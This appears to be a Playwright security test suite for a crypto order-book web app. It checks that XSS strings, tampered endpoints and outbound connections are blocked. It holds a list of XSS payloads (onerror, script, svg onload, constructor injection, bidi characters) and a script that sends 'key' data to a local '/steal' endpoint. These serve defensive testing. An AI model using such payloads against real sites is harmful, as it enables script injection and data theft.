import { execFileSync } from 'node:child_process';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { createServer as createHttpServer } from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { aimBuild } from './support/aimed-build';
import { openBareSite } from './support/bare-site';
import { claims, claimsBetween, expectSettled, recordClaims } from './support/claims';
import { EngineWorker, endEngine } from './support/devtools';
import { expect, test } from './support/fixtures';
import { E2E_BUILD } from './support/places';
import { knockRaw } from './support/raw-engine';
import { expectLive, expectTrueBook, figure, openDock, picture, stripWords, venueCard } from './support/screen';
import { Site } from './support/site';

test.beforeEach(({ context }) => recordClaims(context));

/** A server that nobody should ever reach, and how often somebody did. */
async function trap(): Promise<{ readonly port: number; readonly visits: () => number; close(): void }> {
  let visits = 0;
  const server = createHttpServer((_, response) => response.writeHead(200, { 'access-control-allow-origin': '*' }).end('{}'));
  server.on('connection', () => visits++);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { port: (server.address() as AddressInfo).port, visits: () => visits, close: () => server.close() };
}

/** A script that tries each way out to a port of this machine, and answers what became of each. */
const reachOut = (port: number): string =>
  `(async () => {
    const tried = [];
    await fetch('http://127.0.0.1:${port}/steal?key=1').then(() => tried.push('fetched'), () => tried.push('refused'));
    await fetch('http://127.0.0.1:${port}/steal', { method: 'POST', mode: 'no-cors', body: 'key' }).then(() => tried.push('posted'), () => tried.push('refused'));
    await new Promise((done) => {
      try {
        const socket = new WebSocket('ws://127.0.0.1:${port}/');
        socket.onopen = () => { tried.push('connected'); done(); };
        socket.onerror = () => { tried.push('refused'); done(); };
      } catch { tried.push('refused'); done(); }
    });
    await import('http://127.0.0.1:${port}/x.js').then(() => tried.push('imported'), () => tried.push('refused'));
    return tried.join(' ');
  })()`;

const EVIL = [
  '<img src=x onerror="window.hacked=1">',
  '"><script>window.hacked=1</script>',
  "';window.hacked=1;//",
  '<svg/onload=window.hacked=1>',
  'javascript:window.hacked=1',
  '\u202Eevil\u2066\u200B',
  '{{constructor.constructor("window.hacked=1")()}}',
].join(' ');

test('M1: frames that are not what the protocol says, one of over 1 MB among them, are survived, counted and never shown', async ({
  openTab,
  exchange,
  complaints,
}, info) => {
  const page = await openTab();
  await expectSettled(page);
  await openDock(page, 'Connection');
  const at = Date.now();
  const { connections } = exchange.running.stats();
  exchange.running.control.malformed('all');
  // What is too long is not read at all: that connection is given up.
  await expect.poll(() => exchange.running.stats().connections).toBeGreaterThan(connections);
  await expectLive(page);
  expect((await claimsBetween(page, at)).some((claim) => claim.state !== 'live')).toBe(true);
  await expect(figure(page, 'Faults')).toContainText('frame-malformed');
  await expectTrueBook(page, exchange);
  expect(await page.evaluate(() => Reflect.get({}, 'polluted'))).toBe(undefined);
  expect(complaints).toEqual([]);
  await picture(page, info, 'M1');
});

test('M2: hostile texts of the exchange are shown as text, and the security policy has nothing to report', async ({
  openTab,
  exchange,
  complaints,
}, info) => {
  exchange.running.control.hostile(EVIL);
  const page = await openTab('/?pair=bitfinex:NOSUCH/USD');
  const book = page.getByRole('region', { name: 'Order book' });
  await expect(book).toContainText('<img src=x onerror=', { timeout: 15_000 });
  exchange.running.control.error(10000, EVIL);
  exchange.running.control.info(20051, EVIL);
  await expect.poll(() => exchange.running.stats().connections).toBe(2);
  await openDock(page, 'Connection');
  await expect(venueCard(page)).toBeVisible();
  expect(await page.evaluate(() => [Reflect.get(window, 'hacked'), document.querySelectorAll('img, script:not([src]), svg[onload]').length])).toEqual(
    [undefined, 0],
  );
  // Signs that turn the reading direction or hide are gone.
  expect(await page.evaluate(() => /[\u202A-\u202E\u2066-\u2069\u200B]/.test(document.body.textContent ?? ''))).toBe(false);
  await picture(page, info, 'M2');
  await page.goto(`${new URL(page.url()).origin}/?pair=${encodeURIComponent(EVIL)}#${encodeURIComponent(EVIL)}`);
  await expectLive(page);
  expect(await page.evaluate(() => Reflect.get(window, 'hacked'))).toBe(undefined);
  expect(complaints).toEqual([]);
});

test('M3: a page that speaks to the engine by itself can name its calls and nothing else, and no other tab is hurt', async ({
  openTab,
  exchange,
}) => {
  const page = await openTab();
  const hostile = await openTab();
  await expectSettled(page);
  await expectLive(hostile);
  const at = Date.now();
  const { answers, flood } = await knockRaw(hostile);
  for (const [what, answer] of Object.entries(answers)) expect(answer, what).toMatch(/call-refused/);
  expect(flood.refused + flood.served).toBe(10_000);
  expect(flood.refused).toBeGreaterThan(8_000);
  expect(flood.served).toBeGreaterThan(0);
  expect((await claimsBetween(page, at)).every((claim) => claim.state === 'live')).toBe(true);
  await expectTrueBook(page, exchange);
  await openDock(page, 'Connection');
  await expect(page.getByRole('region', { name: 'Figures' })).toContainText('Messages');
  expect(exchange.running.stats().connections).toBe(1);
});

test('M5: a page of another origin can neither show the app in a frame nor keep a hand on the window it opens', async ({
  context,
  site,
  exchange: _running,
}) => {
  const bare = await openBareSite();
  const frames = [site.url, bare.url].map((url) => `<iframe src="${url}/?pair=simulated:BTC/USD"></iframe>`).join('');
  const server = createHttpServer((_, response) => response.writeHead(200, { 'Content-Type': 'text/html' }).end(frames));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const page = await context.newPage();
  await page.goto(`http://localhost:${(server.address() as AddressInfo).port}/`);
  // Where headers are sent the browser refuses; where none are, the page does.
  const framed = page.frameLocator('iframe');
  await expect(framed.nth(1).locator('#app')).toHaveText('Tapedeck does not run inside another page. Open it in a window of its own.');
  await expect(framed.nth(0).locator('#app')).toHaveCount(0);
  const [opened] = await Promise.all([
    context.waitForEvent('page'),
    page.evaluate((url) => Reflect.set(window, 'opened', window.open(url)), `${site.url}/?pair=simulated:BTC/USD`),
  ]);
  await expect(opened.getByRole('region', { name: 'Order book' })).toBeVisible();
  expect(await opened.evaluate(() => window.opener)).toBeNull();
  expect(await page.evaluate(() => (Reflect.get(window, 'opened') as Window).closed)).toBe(true);
  await opened.close();
  await page.close();
  server.close();
  server.closeAllConnections();
  await bare.stop();
});

test('M8: neither page nor engine can reach a host that the build does not know', async ({ openTab, context, exchange: _running }) => {
  const foreign = await trap();
  const page = await openTab();
  await expectLive(page);
  const attempts = reachOut(foreign.port);
  const violations = page.evaluate(
    () =>
      new Promise<string>((resolve) =>
        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true }),
      ),
  );
  expect(await page.evaluate(attempts)).toBe('refused refused refused refused');
  expect(await violations).toBe('connect-src');
  const beacon = await page.evaluate((port) => {
    const image = new Image();
    image.src = `http://127.0.0.1:${port}/pixel`;
    return new Promise((resolve) => {
      image.onload = () => resolve('loaded');
      image.onerror = () => resolve('refused');
    });
  }, foreign.port);
  expect(beacon).toBe('refused');
  const engine = await EngineWorker.attach(context);
  const { result } = (await engine.send('Runtime.evaluate', { expression: attempts, awaitPromise: true })) as { result: { value: string } };
  expect(result.value).toBe('refused refused refused refused');
  expect(foreign.visits()).toBe(0);
  foreign.close();
  await expectLive(page);
});

test.describe('kept for offline use', () => {
  test.use({ serviceWorkers: 'allow' });

  test('M8: on a host that sends no headers the service worker gives page and engine the policy, from the second visit on', async ({
    context,
    exchange: _running,
  }) => {
    const [foreign, site] = await Promise.all([trap(), openBareSite()]);
    const page = await context.newPage();
    await page.goto(site.url);
    await expectLive(page);
    // The first visit has none: what is tried is seen to work without it.
    const [first] = (await page.evaluate<string>(reachOut(foreign.port))).split(' ');
    expect(first).toBe('fetched');
    await page.evaluate(() => navigator.serviceWorker.ready.then(() => true));
    await page.goto('about:blank');
    await endEngine(context);
    await page.goto(site.url);
    await expectLive(page);
    const visits = foreign.visits();
    expect(await page.evaluate(reachOut(foreign.port))).toBe('refused refused refused refused');
    const inWorker = { expression: reachOut(foreign.port), awaitPromise: true };
    const { result } = (await (await EngineWorker.attach(context)).send('Runtime.evaluate', inWorker)) as { result: { value: string } };
    expect(result.value).toBe('refused refused refused refused');
    expect(foreign.visits()).toBe(visits);
    // What workbox knows nothing of has it as well, and is not there all the same.
    const missing = await page.goto(`${site.url}/nothing`);
    expect([missing?.status(), missing?.headers()['content-security-policy'] ?? '']).toEqual([404, expect.stringContaining("default-src 'none'")]);
    await page.close();
    foreign.close();
    await site.stop();
  });

  test('M9: no address, storage or message changes where the app connects', async ({ openTab, context, exchange }, info) => {
    const foreign = await trap();
    const ws = `ws://127.0.0.1:${foreign.port}/ws/2`;
    await context.addInitScript((url) => {
      for (const key of ['mock', 'ws', 'endpoint', 'hosts', 'TAPEDECK_BITFINEX_WS', 'tapedeck/endpoints']) localStorage.setItem(key, url);
      localStorage.setItem('tapedeck/preferences', JSON.stringify({ theme: 'dark', ws: url, hosts: { publicWs: url }, pair: null }));
    }, ws);
    const page = await openTab(
      `/?mock=${encodeURIComponent(ws)}&ws=${encodeURIComponent(ws)}&TAPEDECK_BITFINEX_WS=${encodeURIComponent(ws)}#ws=${ws}`,
    );
    await expectLive(page);
    await page.evaluate((url) => {
      const message = { kind: 'configure', type: 'SET', path: ['hosts'], ws: url, endpoint: url, publicWs: url };
      window.postMessage(message, '*');
      const channel = new BroadcastChannel('tapedeck-engines');
      channel.postMessage(message);
      channel.close();
      navigator.serviceWorker.controller?.postMessage(message);
    }, ws);
    exchange.running.control.drop();
    await expect.poll(() => exchange.running.stats().connections).toBe(2);
    await expectLive(page);
    await openDock(page, 'About');
    const about = page.getByRole('region', { name: 'About' });
    await expect(about).toContainText(exchange.running.wsUrl);
    await expect(about).not.toContainText(String(foreign.port));
    expect(foreign.visits()).toBe(0);
    foreign.close();
    await picture(page, info, 'M9');
  });
});

test('M10: an exchange whose certificate nobody vouches for gets no request, the user reads that it cannot be reached, and ws:// is not tried', async ({
  context,
}, info) => {
  test.skip(!hasOpenssl(), 'openssl is needed to make a certificate');
  const folder = await mkdtemp(join(tmpdir(), 'tapedeck-tls-'));
  const [key, cert] = [join(folder, 'key.pem'), join(folder, 'cert.pem')];
  const subject = ['-subj', '/CN=127.0.0.1', '-addext', 'subjectAltName=IP:127.0.0.1'];
  execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-days', '2', '-keyout', key, '-out', cert, ...subject], {
    stdio: 'ignore',
  });
  let requests = 0;
  let refusals = 0;
  const server = createHttpsServer({ key: await readFile(key), cert: await readFile(cert) }, (_, response) => response.end());
  server.on('request', () => requests++);
  server.on('upgrade', (_, socket) => {
    requests++;
    socket.destroy();
  });
  server.on('tlsClientError', () => refusals++);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  const dist = join(folder, 'dist');
  const [ws, rest] = [`wss://127.0.0.1:${port}/ws/2`, `https://127.0.0.1:${port}`];
  await aimBuild(E2E_BUILD, dist, { publicWs: ws, authWs: ws, rest, authRest: rest });
  const site = await Site.open(dist);
  const page = await context.newPage();
  await page.goto(site.url);
  await openDock(page, 'Connection');
  await expect(venueCard(page)).toContainText('the exchange could not be reached');
  await expect(stripWords(page)).toContainText(/next try in|Simulated/);
  expect(refusals).toBeGreaterThan(0);
  expect(requests).toBe(0);
  expect((await claims(page)).every((claim) => claim.state !== 'live' || claim.source === 'simulated')).toBe(true);
  await picture(page, info, 'M10');
  await page.close();
  await site.stop();
  server.close();
  server.closeAllConnections();
  await rm(folder, { recursive: true, force: true });
});

function hasOpenssl(): boolean {
  try {
    execFileSync('openssl', ['version'], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}
